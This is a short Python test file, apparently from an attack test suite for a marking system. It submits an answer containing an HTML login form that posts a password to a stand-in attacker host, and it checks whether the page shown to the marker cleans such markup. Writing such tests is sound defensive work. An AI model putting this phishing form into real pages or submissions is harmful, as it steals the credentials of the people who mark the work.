"""Asks whoever marks for a password, on the marker's own page.

Rule: cleaning
Required: same-marks
Wins: page
"""

from __future__ import annotations

from tests.attacks.file_corpus import Desk, honest

ANSWER = '<form action="http://evil.invalid/"><input name="password"><button>Log in</button></form>'


def attack(desk: Desk) -> None:
    desk.hand_in(honest(answer=ANSWER))
